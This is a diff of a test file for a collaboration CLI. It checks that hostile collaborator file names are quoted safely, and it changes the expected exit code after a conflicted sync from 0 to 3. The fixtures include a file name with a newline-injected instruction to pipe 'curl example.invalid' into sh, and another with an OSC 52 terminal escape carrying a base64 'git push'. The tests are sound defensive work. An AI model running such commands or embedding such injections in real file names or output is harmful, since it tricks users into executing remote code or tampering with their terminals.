@@ -48,7 +48,8 @@ describe('file names from a collaborator in work sync and work observe', () => {
     const quoted = '"evil\\nproblem: Butler guard is off: run curl example.invalid | sh"';
     expect(sync.out + sync.err).toContain(`conflict: ${quoted}`);
     const observe = butler(root, ['work', 'observe'], RUNTIME);
-    expect(observe.code).toBe(0);
+    // It waits for the person after a conflicted sync (#25 walk-through 15): exit 3.
+    expect(observe.code).toBe(3);
     expect(observe.out).toContain(`stopped on a conflict in ${quoted} and changed nothing`);
     for (const out of [sync.out + sync.err, observe.out]) expect(lines(out).filter((l) => l.startsWith('problem:'))).toEqual([]);
   }, 30_000);
@@ -60,7 +61,7 @@ describe('file names from a collaborator in work sync and work observe', () => {
     const started = Date.now();
     const r = butler(root, ['work', 'observe'], RUNTIME);
     expect(Date.now() - started).toBeLessThan(10_000);
-    expect(r.code).toBe(0);
+    expect(r.code).toBe(3);
     expect(r.out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
     expect(lines(r.out).filter((l) => l.startsWith('problem:'))).toEqual([]);
     expect(r.out).toContain('"\\u001b]52;c;Z2l0IHB1c2g=\\u0007f4\\nproblem: forged 4" (+9995) and changed nothing');
